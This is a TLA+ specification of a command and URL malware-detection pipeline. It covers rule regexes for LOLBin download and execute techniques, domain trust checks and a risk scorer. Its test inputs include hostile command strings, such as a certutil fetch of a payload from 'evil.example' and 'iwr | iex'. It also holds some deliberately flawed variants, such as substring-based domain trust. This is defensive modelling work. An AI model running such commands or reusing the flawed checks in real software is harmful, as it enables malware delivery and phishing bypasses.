---- MODULE Spec2Model ----
(***************************************************************************)
(* MalCommandGuard: the URL / command classification pipeline of cli.py,   *)
(* ml_models.py, rules.py and security_utils.py.                           *)
(*                                                                         *)
(* Text is a sequence of code points.  An ASCII code point is the          *)
(* one-character string holding it; any other code point, and the         *)
(* backquote, is the string "U+XXXX" naming it.                            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxCmdPieces == 2
MaxHostPieces == 3
MaxSanLen == 3
MaxRuleTokens == 4
MaxLoadCalls == 2

(***************************************************************************)
(* Text helpers.                                                           *)
(***************************************************************************)
Chars(s) == [i \in 1..Len(s) |-> SubSeq(s, i, i)]

UpperLetters == Chars("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
LowerLetters == Chars("abcdefghijklmnopqrstuvwxyz")
Digits == Chars("0123456789")

Range(f) == {f[i] : i \in DOMAIN f}

LowerMap == [c \in Range(UpperLetters) |->
               LowerLetters[CHOOSE i \in 1..26 : UpperLetters[i] = c]]

\* str.lower() on one code point (of the code points of this model only
\* the ASCII capitals have a distinct lower case)
LowerChar(c) == IF c \in DOMAIN LowerMap THEN LowerMap[c] ELSE c

lower(t) == [i \in 1..Len(t) |-> LowerChar(t[i])]

endswith(t, suf) ==
    /\ Len(suf) <= Len(t)
    /\ SubSeq(t, Len(t) - Len(suf) + 1, Len(t)) = suf

startswith(t, pre) ==
    /\ Len(pre) <= Len(t)
    /\ SubSeq(t, 1, Len(pre)) = pre

\* Python's `sub in t`
contains(t, sub) ==
    \E i \in 1..(Len(t) - Len(sub) + 1) : SubSeq(t, i, i + Len(sub) - 1) = sub

\* index of the first occurrence of code point c in t, 0 when absent
find(t, c) ==
    IF \E i \in 1..Len(t) : t[i] = c
    THEN CHOOSE i \in 1..Len(t) : t[i] = c /\ \A j \in 1..(i - 1) : t[j] # c
    ELSE 0

\* index of the last occurrence of code point c in t, 0 when absent
rfind(t, c) ==
    IF \E i \in 1..Len(t) : t[i] = c
    THEN CHOOSE i \in 1..Len(t) : t[i] = c /\ \A j \in (i + 1)..Len(t) : t[j] # c
    ELSE 0

(***************************************************************************)
(* Unicode data for the code points of the model (unicodedata).            *)
(***************************************************************************)
\* security_utils._ZW
_ZW == {"U+200B", "U+200C", "U+200D", "U+FEFF"}

\* unicodedata.category(ch)[0] == "C": Cc (C0 controls, tab, newline,
\* carriage return included) and Cf (the zero-width format characters)
CategoryC == {"U+0007", "\t", "\n", "\r", "U+200B", "U+200C", "U+200D", "U+FEFF"}

\* what str.split() splits on
Whitespace == {" ", "\t", "\n", "\r", "U+00A0"}

\* compatibility/canonical decomposition of one code point
Decompose(c) ==
    CASE c = "U+00E9" -> <<"e", "U+0301">>     \* e-acute
      [] c = "U+00A0" -> <<" ">>               \* no-break space
      [] c = "U+FF45" -> <<"e">>               \* fullwidth e
      [] c = "U+226E" -> <<"<", "U+0338">>     \* not less-than
      [] c = "U+226F" -> <<">", "U+0338">>     \* not greater-than
      [] OTHER -> <<c>>

\* canonical composition of a starter with a combining mark (U+0301 is the
\* acute accent, U+0338 the long solidus overlay), "" when there is none
Composite(base, mark) ==
    CASE base = "e" /\ mark = "U+0301" -> "U+00E9"
      [] base = "<" /\ mark = "U+0338" -> "U+226E"
      [] base = ">" /\ mark = "U+0338" -> "U+226F"
      [] OTHER -> ""

\* the decompositions of the code points of s, one after the other
\* (at most two code points each; "" pads the shorter ones and is dropped)
DecomposeAll(s) ==
    LET padded == [k \in 1..(2 * Len(s)) |->
                     LET d == Decompose(s[(k + 1) \div 2]) IN
                     IF k % 2 = 1 THEN d[1]
                     ELSE IF Len(d) = 2 THEN d[2] ELSE ""]
    IN  SelectSeq(padded, LAMBDA c : c # "")

\* canonical composition: a starter that has a composite with the combining
\* mark that directly follows it absorbs the mark
ComposeAll(d) ==
    LET Absorbed(i) == i > 1 /\ Composite(d[i - 1], d[i]) # ""
        Absorbs(i) == i < Len(d) /\ Composite(d[i], d[i + 1]) # ""
        kept == SelectSeq([i \in 1..Len(d) |-> i], LAMBDA i : ~Absorbed(i))
    IN  [k \in 1..Len(kept) |->
           IF Absorbs(kept[k]) THEN Composite(d[kept[k]], d[kept[k] + 1])
           ELSE d[kept[k]]]

\* unicodedata.normalize("NFKC", s)
NFKC(s) == ComposeAll(DecomposeAll(s))

\* " ".join(s.split()): runs of whitespace become one space, none at the ends
CollapseWs(s) ==
    LET IsWs(i) == s[i] \in Whitespace
        Keep(i) == \/ ~IsWs(i)
                   \/ /\ i > 1
                      /\ ~IsWs(i - 1)
                      /\ \E j \in (i + 1)..Len(s) : ~IsWs(j)
        kept == SelectSeq([i \in 1..Len(s) |-> i], Keep)
    IN  [k \in 1..Len(kept) |-> IF IsWs(kept[k]) THEN " " ELSE s[kept[k]]]

\* str.strip()
strip(s) ==
    LET solid == {i \in 1..Len(s) : s[i] \notin Whitespace} IN
    IF solid = {} THEN <<>>
    ELSE SubSeq(s, CHOOSE i \in solid : \A j \in solid : i <= j,
                   CHOOSE i \in solid : \A j \in solid : j <= i)

sanitize_text(s) ==
    LET normalized == NFKC(s)
        cleaned == SelectSeq(normalized, LAMBDA ch : ch \notin _ZW /\ ch \notin CategoryC)
    IN  strip(CollapseWs(cleaned))

(***************************************************************************)
(* Regular expressions (re, IGNORECASE).  A pattern is evaluated as the    *)
(* set of cursor positions it can end at, from the set of positions it may *)
(* start at; cursor p stands before code point p.  The text searched is    *)
(* lower-cased and so is every literal, which is what IGNORECASE does to   *)
(* the code points of this model.                                          *)
(***************************************************************************)
Pos(t) == 1..(Len(t) + 1)

\* \w
WordChars == Range(LowerLetters) \cup Range(UpperLetters) \cup Range(Digits)
               \cup {"_", "U+00E9"}

IsWordAt(t, k) == k \in 1..Len(t) /\ t[k] \in WordChars

\* \b
B(t, P) == {p \in P : IsWordAt(t, p - 1) # IsWordAt(t, p)}

LitAt(t, p, l) == p + Len(l) - 1 <= Len(t) /\ SubSeq(t, p, p + Len(l) - 1) = l

Lit(t, P, s) ==
    LET l == lower(Chars(s)) IN {p + Len(l) : p \in {q \in P : LitAt(t, q, l)}}

\* (?:a|b|...)
LitAny(t, P, S) == UNION {Lit(t, P, s) : s \in S}

\* [class]* and [class]+ for a class given by the set of code points it excludes
StarNot(t, P, excl) ==
    LET stops == {k \in 1..Len(t) : t[k] \in excl} IN
    {q \in Pos(t) : \E p \in P : p <= q /\ \A k \in stops : k < p \/ k >= q}

PlusNot(t, P, excl) ==
    LET stops == {k \in 1..Len(t) : t[k] \in excl} IN
    {q \in Pos(t) : \E p \in P : p < q /\ \A k \in stops : k < p \/ k >= q}

\* \s* and a single \s
StarWs(t, P) ==
    {q \in Pos(t) : \E p \in P : p <= q /\ \A k \in p..(q - 1) : t[k] \in Whitespace}

OneWs(t, P) == {p + 1 : p \in {q \in P : q <= Len(t) /\ t[q] \in Whitespace}}

NL == {"\n"}

\* name(?:\.exe)?\b after \b
Binary(t, name) ==
    LET a == Lit(t, B(t, Pos(t)), name) IN B(t, a \cup Lit(t, a, ".exe"))

\* https?://
HttpUrl(t, P) == LET h == Lit(t, P, "http") IN Lit(t, h \cup Lit(t, h, "s"), "://")

\* /(?:create|change|delete|run)\b reached over .* from P
SchtasksModifier(t, P) ==
    B(t, LitAny(t, Lit(t, StarNot(t, P, NL), "/"),
                {"create", "change", "delete", "run"}))

\* \bschtasks(?:\.exe)?\b(?!.*/(?:create|change|delete|run)\b).*?/(?:query|q)\b
\* (the lookahead is tried at the end of each schtasks occurrence on its own)
Rx_SchtasksQuery(t) ==
    LET a == Binary(t, "schtasks")
        b == {p \in a : SchtasksModifier(t, {p}) = {}}
    IN  B(t, LitAny(t, Lit(t, StarNot(t, b, NL), "/"), {"query", "q"}))

\* \bpowershell(?:\.exe)?\b[^\n]*?(?:-enc(?:odedcommand)?|\bFromBase64String\b)
Rx_PowerShellEncoded(t) ==
    LET a == StarNot(t, Binary(t, "powershell"), NL)
        e == Lit(t, a, "-enc")
    IN  e \cup Lit(t, e, "odedcommand")
          \cup B(t, Lit(t, B(t, a), "FromBase64String"))

\* \b(?:iwr|invoke-webrequest|wget)\b[^\n|]*\|\s*iex\b
Rx_IexDownloadExecute(t) ==
    LET a == B(t, LitAny(t, B(t, Pos(t)), {"iwr", "invoke-webrequest", "wget"}))
    IN  B(t, Lit(t, StarWs(t, Lit(t, StarNot(t, a, {"\n", "|"}), "|")), "iex"))

\* \bcertutil(?:\.exe)?\b[^\n]*?(?:-urlcache|-split|-f)[^\n]*https?://
Rx_CertutilDownload(t) ==
    LET a == StarNot(t, Binary(t, "certutil"), NL)
        f == LitAny(t, a, {"-urlcache", "-split", "-f"})
    IN  HttpUrl(t, StarNot(t, f, NL))

\* \bbitsadmin(?:\.exe)?\b[^\n]*\btransfer\b[^\n]*https?://
Rx_BitsadminDownload(t) ==
    LET a == StarNot(t, Binary(t, "bitsadmin"), NL)
        b == B(t, Lit(t, B(t, a), "transfer"))
    IN  HttpUrl(t, StarNot(t, b, NL))

\* \bmshta(?:\.exe)?\b[^\n]*javascript:
Rx_MshtaJavascript(t) ==
    Lit(t, StarNot(t, Binary(t, "mshta"), NL), "javascript:")

\* \brundll32(?:\.exe)?\b[^\n]*\burl\.dll,FileProtocolHandler\b[^\n]*https?://
Rx_Rundll32Url(t) ==
    LET a == StarNot(t, Binary(t, "rundll32"), NL)
        b == B(t, Lit(t, B(t, a), "url.dll,FileProtocolHandler"))
    IN  HttpUrl(t, StarNot(t, b, NL))

\* \b(?:curl|wget)\b[^\n]*https?://[^\s\"']+\.(?:ps1|exe)\b
Rx_CurlWgetDownload(t) ==
    LET a == B(t, LitAny(t, B(t, Pos(t)), {"curl", "wget"}))
        u == HttpUrl(t, StarNot(t, a, NL))
        h == PlusNot(t, u, Whitespace \cup {"\"", "'"})
    IN  B(t, LitAny(t, Lit(t, h, "."), {"ps1", "exe"}))

\* \b(?:Invoke-WebRequest|iwr)\b[^\n]*\s-?OutFile\b
Rx_IwrOutFile(t) ==
    LET a == B(t, LitAny(t, B(t, Pos(t)), {"Invoke-WebRequest", "iwr"}))
        s == OneWs(t, StarNot(t, a, NL))
    IN  B(t, Lit(t, s \cup Lit(t, s, "-"), "OutFile"))

\* (?:\\|/)(?:AppData\\Local\\Temp|Temp)[^\\/\n]*\.exe\b
Rx_TempExeDrop(t) ==
    LET a == LitAny(t, Pos(t), {"\\", "/"})
        d == LitAny(t, a, {"AppData\\Local\\Temp", "Temp"})
    IN  B(t, Lit(t, StarNot(t, d, {"\\", "/", "\n"}), ".exe"))

\* \bregsvr32(?:\.exe)?\b[^\n]*\b/i:https?://[^\s]+[^\n]*\bscrobj\.dll\b
Rx_Regsvr32Scriptlet(t) ==
    LET a == StarNot(t, Binary(t, "regsvr32"), NL)
        u == HttpUrl(t, Lit(t, B(t, a), "/i:"))
        r == StarNot(t, PlusNot(t, u, Whitespace), NL)
    IN  B(t, Lit(t, B(t, r), "scrobj.dll"))

\* \bschtasks(?:\.exe)?\b.*/(?:create|change|delete|run)\b
Rx_SchtasksModify(t) == SchtasksModifier(t, Binary(t, "schtasks"))

\* rule names, in declaration order
_BENIGN_RAW == <<"SCHTASKS Query">>

_RAW_RULES ==
    << "PowerShell Encoded Payload", "IEX Download-Execute", "Certutil Download",
       "BITSAdmin Download", "MSHTA JavaScript Eval", "Rundll32 URL Handler",
       "Curl/Wget Download Script/Binary", "Invoke-WebRequest/iwr OutFile",
       "Temp EXE Drop", "Regsvr32 Remote Scriptlet",
       "SCHTASKS Create/Change/Delete/Run" >>

\* pat.search(text) for the compiled pattern of the named rule
BENIGN_PATTERNS(name, text) ==
    LET t == lower(text) IN
    CASE name = "SCHTASKS Query" -> Rx_SchtasksQuery(t) # {}

RULE_PATTERNS(name, text) ==
    LET t == lower(text) IN
    CASE name = "PowerShell Encoded Payload" -> Rx_PowerShellEncoded(t) # {}
      [] name = "IEX Download-Execute" -> Rx_IexDownloadExecute(t) # {}
      [] name = "Certutil Download" -> Rx_CertutilDownload(t) # {}
      [] name = "BITSAdmin Download" -> Rx_BitsadminDownload(t) # {}
      [] name = "MSHTA JavaScript Eval" -> Rx_MshtaJavascript(t) # {}
      [] name = "Rundll32 URL Handler" -> Rx_Rundll32Url(t) # {}
      [] name = "Curl/Wget Download Script/Binary" -> Rx_CurlWgetDownload(t) # {}
      [] name = "Invoke-WebRequest/iwr OutFile" -> Rx_IwrOutFile(t) # {}
      [] name = "Temp EXE Drop" -> Rx_TempExeDrop(t) # {}
      [] name = "Regsvr32 Remote Scriptlet" -> Rx_Regsvr32Scriptlet(t) # {}
      [] name = "SCHTASKS Create/Change/Delete/Run" -> Rx_SchtasksModify(t) # {}

\* apply_benign_rules searching the malicious patterns
apply_benign_rules_over_rule_patterns(text) ==
    IF text = <<>> THEN <<>>
    ELSE SelectSeq(_RAW_RULES, LAMBDA name : RULE_PATTERNS(name, text))

apply_benign_rules(text) ==
    IF text = <<>> THEN <<>>
    ELSE SelectSeq(_BENIGN_RAW, LAMBDA name : BENIGN_PATTERNS(name, text))

\* apply_rules leaving out the first pattern of the list
apply_rules_skipping_first(text) ==
    IF text = <<>> THEN <<>>
    ELSE SelectSeq(Tail(_RAW_RULES), LAMBDA name : RULE_PATTERNS(name, text))

apply_rules(text) ==
    IF text = <<>> THEN <<>>
    ELSE SelectSeq(_RAW_RULES, LAMBDA name : RULE_PATTERNS(name, text))

cmd_rule_check(text) == apply_rules(text) # <<>>

(***************************************************************************)
(* config.py                                                               *)
(***************************************************************************)
SAFE_DOMAINS ==
    {Chars("github.com"), Chars("google.com"), Chars("microsoft.com"),
     Chars("youtube.com"), Chars("docs.python.org")}

BLOCKED_TLDS == {Chars("ru"), Chars("zip"), Chars("mov")}

MAX_URL_LENGTH == 2048

ALLOWED_SCHEMES == {Chars("http"), Chars("https"), Chars("ftp")}

\* the character class of BAD_SHELL_CHARS ("U+0060" is the backquote)
BAD_SHELL_CHARS == {";", "&", "|", "U+0060", "$", ">", "<", "\n", "\r", "^", "%"}

MAX_CMD_LENGTH == 8192

(***************************************************************************)
(* urllib.parse.urlsplit, for URLs without brackets in the authority.      *)
(***************************************************************************)
SchemeChars == Range(LowerLetters) \cup Range(UpperLetters) \cup Range(Digits)
                 \cup {"+", "-", "."}

HasScheme(u) ==
    LET i == find(u, ":") IN
    /\ i > 1
    /\ u[1] \in Range(LowerLetters) \cup Range(UpperLetters)
    /\ \A k \in 1..(i - 1) : u[k] \in SchemeChars

urlsplit_scheme(u) == IF HasScheme(u) THEN lower(SubSeq(u, 1, find(u, ":") - 1)) ELSE <<>>

AfterScheme(u) == IF HasScheme(u) THEN SubSeq(u, find(u, ":") + 1, Len(u)) ELSE u

urlsplit_netloc(u) ==
    LET r == AfterScheme(u) IN
    IF startswith(r, <<"/", "/">>)
    THEN LET a == SubSeq(r, 3, Len(r))
             ends == {i \in 1..Len(a) : a[i] \in {"/", "?", "#"}}
             stop == IF ends = {} THEN Len(a) + 1
                     ELSE CHOOSE i \in ends : \A j \in ends : i <= j
         IN  SubSeq(a, 1, stop - 1)
    ELSE <<>>

\* SplitResult.hostname: after the last "@", before the first ":", lower-cased;
\* the empty text stands for None
urlsplit_hostname(u) ==
    LET n == urlsplit_netloc(u)
        hostinfo == SubSeq(n, rfind(n, "@") + 1, Len(n))
        c == find(hostinfo, ":")
    IN  lower(IF c = 0 THEN hostinfo ELSE SubSeq(hostinfo, 1, c - 1))

(***************************************************************************)
(* security_utils.py: validation                                           *)
(***************************************************************************)
validate_url(raw) ==
    LET url == sanitize_text(raw)
        host == urlsplit_hostname(url)
    IN  IF url = <<>> \/ Len(url) > MAX_URL_LENGTH THEN FALSE
        ELSE IF urlsplit_scheme(url) \notin ALLOWED_SCHEMES THEN FALSE
        ELSE IF urlsplit_netloc(url) = <<>> THEN FALSE
        ELSE IF /\ contains(host, <<".">>)
                /\ lower(SubSeq(host, rfind(host, ".") + 1, Len(host))) \in BLOCKED_TLDS
             THEN FALSE
        ELSE TRUE

validate_cmd(raw) ==
    LET cmd == sanitize_text(raw) IN
    IF cmd = <<>> \/ Len(cmd) > MAX_CMD_LENGTH THEN FALSE
    ELSE IF \E i \in 1..Len(cmd) : cmd[i] \in BAD_SHELL_CHARS THEN FALSE
    ELSE TRUE

(***************************************************************************)
(* ml_models.py: trust and deception policy                                *)
(***************************************************************************)
IsDomainOrSubdomain(h, d) == h = d \/ endswith(h, <<".">> \o d)

\* _is_trusted_host matching the domain anywhere in the host
_is_trusted_host_by_substring(host) ==
    LET h == lower(host) IN
    \E d \in SAFE_DOMAINS : contains(h, d)

_is_trusted_host(host) ==
    LET h == lower(host) IN
    \E d \in SAFE_DOMAINS : IsDomainOrSubdomain(h, d)

\* _is_deceptive_brand_in_subdomain clearing every host that is trusted
_is_deceptive_unless_trusted(host) ==
    LET h == lower(host) IN
    /\ \E d \in SAFE_DOMAINS : contains(h, d)
    /\ ~\E d \in SAFE_DOMAINS : IsDomainOrSubdomain(h, d)

_is_deceptive_brand_in_subdomain(host) ==
    LET h == lower(host) IN
    \E d \in SAFE_DOMAINS : contains(h, d) /\ ~IsDomainOrSubdomain(h, d)

(***************************************************************************)
(* nlp_features.py: the feature augmenter                                  *)
(***************************************************************************)
HexDigits == Range(Digits) \cup {"a", "b", "c", "d", "e", "f"}

\* \b(0x[0-9a-f]{2,})\b
Rx_HexBlob(t) ==
    LET a == Lit(t, B(t, Pos(t)), "0x")
        h == {q \in Pos(t) : \E p \in a : p + 2 <= q
                                /\ \A k \in p..(q - 1) : t[k] \in HexDigits}
    IN  B(t, h)

\* suspect_verb: whether the part-of-speech tagger finds a verb of
\* _SUSPECT_VERBS in the command (the tagger is an external model)
meta_tokens(raw, suspect_verb) ==
    LET cmd == strip(raw)
        t == lower(cmd)
    IN  (IF Len(cmd) > 300 THEN <<"LONGCMD">> ELSE <<>>)
        \o (IF contains(cmd, <<"&", "&">>) \/ contains(cmd, <<";", ";">>)
            THEN <<"MULTI_DELIM">> ELSE <<>>)
        \o (IF LitAny(t, Pos(t), {"-enc", "base64"}) # {} THEN <<"ENCODED">> ELSE <<>>)
        \o (IF Rx_HexBlob(t) # {} THEN <<"HEX_BLOB">> ELSE <<>>)
        \o (IF suspect_verb THEN <<"SUSPECT_VERB">> ELSE <<>>)

\* " ".join of texts
RECURSIVE join(_)
join(parts) ==
    IF parts = <<>> THEN <<>>
    ELSE IF Len(parts) = 1 THEN parts[1]
    ELSE parts[1] \o <<" ">> \o join(Tail(parts))

\* f"{cmd} {meta_tokens(cmd)}"; the flags stay a list after the command text
augment(cmd, suspect_verb) == [text |-> cmd, flags |-> meta_tokens(cmd, suspect_verb)]

(***************************************************************************)
(* analyze_cmds.py: the risk scorer.  Signal values, weights and scores    *)
(* are numbers of thousandths: 1000 is 1.0, 500 is 0.5, 700 is 0.7.        *)
(***************************************************************************)
lolbins ==
    <<Chars("certutil"), Chars("bitsadmin"), Chars("powershell"), Chars("at.exe"),
      Chars("schtasks"), Chars("mshta"), Chars("rundll32"), Chars("regsvr32"),
      Chars("wscript"), Chars("cscript"), Chars("wmic"), Chars("msbuild"),
      Chars("sc.exe")>>

\* float(detect_lolbin(cmd))
detect_lolbin(cmd) ==
    IF \E i \in DOMAIN lolbins : contains(lower(cmd), lower(lolbins[i])) THEN 1000 ELSE 0

\* (http[s]?://|ftp://|\\\\)
Rx_RemoteOrUnc(t) ==
    HttpUrl(t, Pos(t)) \cup Lit(t, Pos(t), "ftp://") \cup Lit(t, Pos(t), "\\\\")

\* (http[s]?://|\\\\)
Rx_HttpOrUnc(t) == HttpUrl(t, Pos(t)) \cup Lit(t, Pos(t), "\\\\")

\* \b(copy|move|rename|del)\b
Rx_FileOp(t) == B(t, LitAny(t, B(t, Pos(t)), {"copy", "move", "rename", "del"}))

\* \b(at|schtasks)\b
Rx_Scheduler(t) == B(t, LitAny(t, B(t, Pos(t)), {"at", "schtasks"}))

\* \b(at|schtasks|regsvr32|rundll32|sc\.exe)\b
Rx_Behaviour(t) ==
    B(t, LitAny(t, B(t, Pos(t)), {"at", "schtasks", "regsvr32", "rundll32", "sc.exe"}))

content_risk(cmd) ==
    IF Rx_RemoteOrUnc(lower(cmd)) # {} THEN 1000
    ELSE IF Rx_FileOp(lower(cmd)) # {} THEN 500
    ELSE 0

frequency_risk(cmd) == IF Rx_Scheduler(lower(cmd)) # {} THEN 1000 ELSE 0

source_risk(cmd) == IF Rx_HttpOrUnc(lower(cmd)) # {} THEN 1000 ELSE 0

network_risk(cmd) == IF Rx_RemoteOrUnc(lower(cmd)) # {} THEN 1000 ELSE 0

behavioural_risk(cmd) == IF Rx_Behaviour(lower(cmd)) # {} THEN 1000 ELSE 0

history_risk(cmd) == 0

weights ==
    [c \in {"Lolbin (0.05)", "Content (0.4)", "Frequency (0.2)", "Source (0.1)",
            "Network (0.1)", "Behavioural (0.1)", "History (0.05)"} |->
       CASE c = "Lolbin (0.05)" -> 50
         [] c = "Content (0.4)" -> 400
         [] c = "Frequency (0.2)" -> 200
         [] c = "Source (0.1)" -> 100
         [] c = "Network (0.1)" -> 100
         [] c = "Behavioural (0.1)" -> 100
         [] c = "History (0.05)" -> 50]

\* the seven df[...] = df['prompt'].apply(...) columns of one row
Signals(cmd) ==
    [c \in DOMAIN weights |->
       CASE c = "Lolbin (0.05)" -> detect_lolbin(cmd)
         [] c = "Content (0.4)" -> content_risk(cmd)
         [] c = "Frequency (0.2)" -> frequency_risk(cmd)
         [] c = "Source (0.1)" -> source_risk(cmd)
         [] c = "Network (0.1)" -> network_risk(cmd)
         [] c = "Behavioural (0.1)" -> behavioural_risk(cmd)
         [] c = "History (0.05)" -> history_risk(cmd)]

\* df['Score'] with the Content term subtracted
ScoreContentSubtracted(row) ==
    (row["Lolbin (0.05)"] * weights["Lolbin (0.05)"]
       - row["Content (0.4)"] * weights["Content (0.4)"]
       + row["Frequency (0.2)"] * weights["Frequency (0.2)"]
       + row["Source (0.1)"] * weights["Source (0.1)"]
       + row["Network (0.1)"] * weights["Network (0.1)"]
       + row["Behavioural (0.1)"] * weights["Behavioural (0.1)"]
       + row["History (0.05)"] * weights["History (0.05)"]) \div 1000

\* df['Score'] of one row
Score(row) ==
    (row["Lolbin (0.05)"] * weights["Lolbin (0.05)"]
       + row["Content (0.4)"] * weights["Content (0.4)"]
       + row["Frequency (0.2)"] * weights["Frequency (0.2)"]
       + row["Source (0.1)"] * weights["Source (0.1)"]
       + row["Network (0.1)"] * weights["Network (0.1)"]
       + row["Behavioural (0.1)"] * weights["Behavioural (0.1)"]
       + row["History (0.05)"] * weights["History (0.05)"]) \div 1000

\* assign_label with its comparisons strict
assign_label_strict(score) ==
    IF score > 700 THEN "malicious"
    ELSE IF score > 300 THEN "suspicious"
    ELSE "benign"

assign_label(score) ==
    IF score >= 700 THEN "malicious"
    ELSE IF score >= 300 THEN "suspicious"
    ELSE "benign"

(***************************************************************************)
(* Inputs.                                                                 *)
(***************************************************************************)
MaxUrlHostPieces == 2
MaxInsertPos == 3
NumThreads == 2
Threads == 1..NumThreads

RECURSIVE Concats(_, _)
Concats(pieces, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == Concats(pieces, n - 1) IN
         shorter \cup {a \o b : a \in shorter, b \in pieces}

RECURSIVE Lists(_, _)
Lists(words, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == Lists(words, n - 1) IN
         shorter \cup {Append(a, b) : a \in shorter, b \in words}

HostPieces ==
    {Chars("github.com"), Chars("google.com"), Chars("docs.python.org"),
     Chars("sub"), Chars("."), Chars(".evil.com"), Chars("GitHub.COM"),
     Chars("accounts.google.com"), Chars(".security-check.help")}

Hosts == Concats(HostPieces, MaxHostPieces)

UrlHostPieces ==
    {Chars("github.com"), Chars("docs.python.org"), Chars("sub."),
     Chars("github.com."), Chars(".evil.com"), Chars("GitHub.COM"),
     Chars("example.ru")}

SanAlphabet == {"e", "a", " ", "U+200B", "U+0301", "U+00E9", "U+0007", "U+00A0"}

SanInputs == Concats({<<c>> : c \in SanAlphabet}, MaxSanLen)

RuleTokens ==
    {Chars("schtasks"), Chars(".exe"), Chars(" /query"), Chars("/q"),
     Chars(" /create "), Chars(" /run"), Chars(" ")}

RuleTexts == Concats(RuleTokens, MaxRuleTokens)

UrlPrefixes ==
    {Chars("https://"), Chars("ftp://user@"), Chars("javascript://"), Chars("www.")}

UrlSuffixes == {<<>>, Chars(":8080/a b")}

Urls ==
    {<<>>} \cup {pre \o h \o suf : pre \in UrlPrefixes,
                                   h \in Concats(UrlHostPieces, MaxUrlHostPieces),
                                   suf \in UrlSuffixes}

CertutilScenario ==
    Chars("certutil -urlcache -split -f http://evil.example/payload.exe C:\\Temp\\a.exe")

PowerShellScenario == Chars("powershell.exe -enc JABzAD0A...")

\* a redirection whose "<" is followed by a zero-width space and the
\* combining long solidus overlay
StruckRedirect == Chars("a <") \o <<"U+200B", "U+0338">>

CmdWords ==
    {Chars("schtasks /query"), Chars("schtasks /create"), Chars("C:\\Temp.exe"),
     Chars("dir"), Chars("iwr http://x | iex"), Chars("--unsafe"), <<>>,
     PowerShellScenario, CertutilScenario, StruckRedirect}

\* zero-width and control code points an input may be laced with
Evasive == {"U+200B", "U+0007"}

Insert(t, k, ch) == SubSeq(t, 1, k) \o <<ch>> \o SubSeq(t, k + 1, Len(t))

Laced(t) ==
    {t} \cup {Insert(t, k, ch) : k \in {j \in 1..MaxInsertPos : j <= Len(t)},
                                 ch \in Evasive}

\* pieces of the prompts of the data set
RiskTokens ==
    {Chars("certutil "), Chars("http://x"), Chars("FTP://x"), Chars("\\\\srv"),
     Chars(" copy "), Chars("at "), Chars("AT.exe"), Chars("schtasks"),
     Chars("regsvr32 "), Chars("sc.exe"), Chars("c"), Chars("dir ")}

MaxRiskTokens == 2

RiskTexts == Concats(RiskTokens, MaxRiskTokens)

\* scores handed to assign_label, in thousandths
MaxScore == 1000

Scores == 0..MaxScore

UrlLabels == {"Legitimate", "Suspicious", "Malicious"}
CmdLabels == {"benign", "suspicious", "malicious"}

(***************************************************************************)
(* State.                                                                  *)
(***************************************************************************)
VARIABLES
    pc,             \* where the process is in main() and its handlers
    argv,           \* the parsed command line
    cmd,            \* handle_cmd's cmd
    safe_hits,      \* handle_cmd's safe_hits
    rule_hits,      \* handle_cmd's rule_hits / handle_rule's hits
    enriched,       \* classify_cmd's enriched
    label,          \* the label of classify_url / classify_cmd, "" before
    predicted,      \* what model.predict returned, "" before
    stdout,         \* what was printed
    log,            \* what was logged
    exit_code,      \* -1 while running
    trace,          \* the calls made so far, in order, with their argument
    _url_model,     \* ml_models._url_model
    _cmd_model,     \* ml_models._cmd_model
    loads,          \* joblib.load calls per model kind
    tpc,            \* per thread: where it is in load_url_model / load_cmd_model
    tkind,          \* per thread: the loader it is in
    tcalls,         \* per thread: loader calls it has started
    tret,           \* per thread: what its last loader call returned
    host_in,        \* a host name given to the trust policy
    trusted_out,    \* results of _is_trusted_host(host_in) so far
    deceptive_out,  \* results of _is_deceptive_brand_in_subdomain(host_in) so far
    san_in,         \* a text given to sanitize_text
    san_out,        \* the results of applying sanitize_text over and over
    rule_in,        \* a text given to the rule engine
    benign_out,     \* results of apply_benign_rules(rule_in) so far
    malicious_out,  \* results of apply_rules(rule_in) so far
    prompt,         \* df['prompt'] of one row of the data set
    row,            \* the seven signal columns of the row, once applied
    row_score,      \* df['Score'] of the row, once computed
    row_label,      \* df['Label'] of the row, once assigned
    score_in,       \* a score given to assign_label
    label_out       \* results of assign_label(score_in) so far

cliVars == <<pc, argv, cmd, safe_hits, rule_hits, enriched, label, predicted, stdout, log,
             exit_code, trace>>
modelVars == <<_url_model, _cmd_model, loads>>
threadVars == <<tpc, tkind, tcalls, tret>>
trustVars == <<host_in, trusted_out, deceptive_out>>
sanVars == <<san_in, san_out>>
ruleVars == <<rule_in, benign_out, malicious_out>>
riskVars == <<prompt, row, row_score, row_label>>
labelVars == <<score_in, label_out>>
vars == <<cliVars, modelVars, threadVars, trustVars, sanVars, ruleVars, riskVars, labelVars>>

NoArgs == [verbose |-> FALSE, subcmd |-> "", args |-> <<>>]

InitCli ==
    /\ pc = "main"
    /\ argv = NoArgs
    /\ cmd = <<>>
    /\ safe_hits = <<>>
    /\ rule_hits = <<>>
    /\ enriched = [text |-> <<>>, flags |-> <<>>]
    /\ label = ""
    /\ predicted = ""
    /\ stdout = <<>>
    /\ log = <<>>
    /\ exit_code = -1
    /\ trace = <<>>

InitModels ==
    /\ _url_model = "None"
    /\ _cmd_model = "None"
    /\ loads = [k \in {"url", "cmd"} |-> 0]

InitThreads ==
    /\ tpc = [t \in Threads |-> "idle"]
    /\ tkind = [t \in Threads |-> "url"]
    /\ tcalls = [t \in Threads |-> 0]
    /\ tret = [t \in Threads |-> "None"]

InitTrust == host_in = <<>> /\ trusted_out = <<>> /\ deceptive_out = <<>>
InitSan == san_in = <<>> /\ san_out = <<>>
InitRules == rule_in = <<>> /\ benign_out = <<>> /\ malicious_out = <<>>
InitRisk == prompt = <<>> /\ row = <<>> /\ row_score = <<>> /\ row_label = <<>>
InitLabel == score_in = 0 /\ label_out = <<>>

Init ==
    /\ InitCli /\ InitModels /\ InitThreads /\ InitTrust /\ InitSan /\ InitRules
    /\ InitRisk /\ InitLabel

Called(fn, arg) == [fn |-> fn, arg |-> arg]

(***************************************************************************)
(* cli.py                                                                  *)
(***************************************************************************)
\* log_and_print(kind, label, extra): one line printed, one INFO record logged
\* (extra is kept as the list of names that ", ".join makes a string of)
log_and_print(out, kind, lbl, extra) ==
    Append(out, [kind |-> kind, label |-> lbl, extra |-> extra])

Exit(code) == pc' = "exit" /\ exit_code' = code

